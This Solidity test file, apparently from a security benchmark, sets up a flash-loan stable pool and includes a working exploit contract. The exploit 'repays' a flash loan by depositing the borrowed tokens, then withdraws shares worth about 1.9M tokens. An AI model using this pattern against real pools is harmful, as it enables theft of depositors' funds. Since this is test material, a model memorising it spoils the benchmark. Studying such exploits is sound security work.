// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./StablePool.sol";

// assay-canary-c26ca95f-a8d7-407a-a5b7-0d0e337edb56

interface Vm {
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Stable is ERC20 {
    constructor() ERC20("Stable", "USD") {
        _setupDecimals(6);
        _mint(msg.sender, 10_000_000e6);
    }
}

// takes a loan of nothing, calls the pool meanwhile, and hands on what that says
contract Nested is IFlashTaker {
    StablePool internal pool;

    constructor(StablePool pool_) {
        pool = pool_;
    }

    function nest(bytes calldata inner) external {
        pool.flash(0, 0, inner);
    }

    function onFlash(address, uint256, uint256, bytes calldata inner) external override {
        (bool ok, bytes memory answer) = address(pool).call(inner);
        if (ok) return;
        assembly {
            revert(add(answer, 32), mload(answer))
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant LENDER = address(0x3E3BE4);
    address internal constant TRADER = address(0x74A);

    Stable internal first;
    Stable internal second;
    StablePool internal pool;
    Attacker internal thief;

    function setUp() public {
        first = new Stable();
        second = new Stable();
        pool = new StablePool(first, second);
        first.transfer(LENDER, 2_000_000e6);
        second.transfer(LENDER, 2_000_000e6);
        allow(LENDER);
        vm.prank(LENDER);
        pool.deposit(0, 2_000_000e6);
        vm.prank(LENDER);
        pool.deposit(1, 2_000_000e6);
        first.transfer(TRADER, 10_000e6);
        allow(TRADER);

        thief = new Attacker(pool, first, second);
        first.transfer(address(thief), 5_000e6);
        second.transfer(address(thief), 5_000e6);
    }

    function allow(address who) internal {
        vm.prank(who);
        first.approve(address(pool), uint256(-1));
        vm.prank(who);
        second.approve(address(pool), uint256(-1));
    }

    function test_Regular() public {
        vm.prank(TRADER);
        require(pool.swap(0, 10_000e6) == 9_996e6 && second.balanceOf(TRADER) == 9_996e6, "swapped");
        require(pool.worth(pool.supply()) == 4_000_004e6 && pool.total() == 4_000_004e6, "the fee stays");

        thief.borrow(1, 1_000_000e6);
        require(second.balanceOf(address(thief)) == 4_000e6, "the fee of the loan");
        require(pool.total() == 4_001_004e6, "books");

        vm.prank(TRADER);
        uint256 shares = pool.deposit(1, 4_000e6);
        vm.prank(TRADER);
        (uint256 a, uint256 b) = pool.withdraw(shares);
        require(a + b <= 4_000e6 && a + b > 3_999e6, "in and out");
    }

    // what is refused, each from the state after setUp()

    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesTokens() public {
        vm.expectRevert("!tokens");
        new StablePool(first, first);
        refuses(TRADER, "!token");
        pool.swap(2, 1e6);
    }

    function test_RefusesDeposits() public {
        refuses(TRADER, "!minted");
        pool.deposit(0, 0);
        StablePool other = new StablePool(first, second);
        vm.expectRevert("!minted");
        other.deposit(0, 1e6 - 1);
        vm.expectRevert("!minted");
        other.deposit(0, 1e6);
        refuses(TRADER, "!shares");
        pool.withdraw(1);
        first.approve(address(pool), uint256(-1));
        vm.expectRevert("!books");
        pool.swap(0, 2_001_000e6);
    }

    function test_RefusesLoansThatAreNotRepaid() public {
        vm.expectRevert("!repaid");
        thief.short(1, 1_000_000e6, 999e6);
        vm.expectRevert("!repaid");
        thief.keep(1, 1_000_000e6);
        first.transfer(address(pool), 1_000e6);
        vm.expectRevert("!repaid");
        thief.short(0, 100_000e6, 0);
    }

    function test_RefusesASecondCallDuringALoan() public {
        Nested nested = new Nested(pool);
        bytes memory why = "ReentrancyGuard: reentrant call";
        vm.expectRevert(why);
        nested.nest(abi.encodeWithSelector(pool.withdraw.selector, 0));
        vm.expectRevert(why);
        nested.nest(abi.encodeWithSelector(pool.swap.selector, 0, 0));
        vm.expectRevert(why);
        nested.nest(abi.encodeWithSelector(pool.flash.selector, 0, 0, ""));
    }

    function exploit() public {
        thief.run(0);
        thief.run(1);
        thief.leave();
    }

    function test_Exploit() public {
        uint256 before = first.balanceOf(address(thief));
        exploit();
        require(first.balanceOf(address(thief)) >= before + 1_900_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(first);
    }
}

// Repays a flash loan by depositing it.
contract Attacker is IFlashTaker {
    enum Mode { Repay, Deposit }

    StablePool internal pool;
    Stable internal first;
    Stable internal second;
    Mode internal mode;
    uint256 internal back;

    constructor(StablePool pool_, Stable first_, Stable second_) {
        pool = pool_;
        first = first_;
        second = second_;
        first_.approve(address(pool_), uint256(-1));
        second_.approve(address(pool_), uint256(-1));
    }

    function borrow(uint256 which, uint256 amount) external {
        back = amount + amount / 1000;
        pool.flash(which, amount, "");
    }

    function short(uint256 which, uint256 amount, uint256 fee) external {
        back = amount + fee;
        pool.flash(which, amount, "");
    }

    function keep(uint256 which, uint256 amount) external {
        back = 0;
        pool.flash(which, amount, "");
    }

    function run(uint256 which) external {
        mode = Mode.Deposit;
        Stable t = which == 0 ? first : second;
        pool.flash(which, t.balanceOf(address(pool)), abi.encode(which));
    }

    function leave() external {
        pool.withdraw(pool.shares(address(this)));
    }

    function onFlash(address token, uint256 amount, uint256 fee, bytes calldata data) external override {
        if (mode == Mode.Deposit) {
            pool.deposit(abi.decode(data, (uint256)), amount);
            Stable(token).transfer(msg.sender, fee);
        } else {
            Stable(token).transfer(msg.sender, back);
        }
    }
}
